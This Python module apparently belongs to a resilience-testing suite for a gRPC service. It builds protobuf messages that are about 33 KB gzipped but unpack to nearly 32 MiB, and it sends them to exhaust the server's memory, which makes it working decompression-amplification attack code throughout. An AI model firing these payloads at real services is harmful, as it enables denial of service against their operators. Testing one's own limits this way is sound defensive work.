"""Messages that are small on the wire and large once they are built."""

import asyncio
import gzip
from functools import cache

from attacks.base import CREATE, INFER, SEGMENT, Attack, Target
from limits import MIB

SIZE = 32 * MIB - 64  # what the message unpacks to; the default limit is 32 MiB


def _varint(number: int) -> bytes:
    digits = bytearray()
    while number > 127:
        digits.append(number & 127 | 128)
        number >>= 7
    return bytes([*digits, number])


def field(number: int, content: bytes) -> bytes:
    """A field of bytes, text or a message."""
    return bytes([number << 3 | 2]) + _varint(len(content)) + content


def empty(number: int, size: int) -> bytes:
    """As many empty entries of a repeated field as fit into so many bytes."""
    return field(number, b"") * (size // 2)


def _segment(entries: bytes) -> bytes:
    return field(2, field(1, entries))  # vocabulary.categories


def _create(entries: bytes) -> bytes:
    return field(1, entries)  # categories


MESSAGES = {
    "empty tensors": (INFER, lambda: empty(5, SIZE)),
    "empty outputs": (INFER, lambda: empty(6, SIZE)),
    "empty parameters": (INFER, lambda: empty(4, SIZE)),
    "empty categories": (SEGMENT, lambda: _segment(empty(1, SIZE))),
    "empty categories, registered": (CREATE, lambda: _create(empty(1, SIZE))),
    "empty synonyms, registered": (CREATE, lambda: _create(field(1, empty(2, SIZE)))),
    "unknown fields": (SEGMENT, lambda: b"\x78\0" * (SIZE // 2)),
    "zeros": (SEGMENT, lambda: field(1, field(1, bytes(SIZE)))),  # image.encoded
}


@cache
def packed(name: str) -> bytes:
    """The message as it goes out: some 33 KB."""
    return gzip.compress(MESSAGES[name][1](), 6)


class Amplified(Attack):
    """One kind of such message, packed with gzip."""

    memory = True
    goal = ("answers", 1)

    def __init__(self, name: str) -> None:
        self.name = f"amplified: {name}"
        self.kind = name

    async def prepare(self, target: Target) -> None:
        await asyncio.to_thread(packed, self.kind)

    async def strike(self, target: Target) -> None:
        path = MESSAGES[self.kind][0]
        async with await target.connect() as connection:
            await connection.unary(path, packed(self.kind), compressed=True, grpc_encoding="gzip")


ATTACKS: list[Attack] = [Amplified(name) for name in MESSAGES]
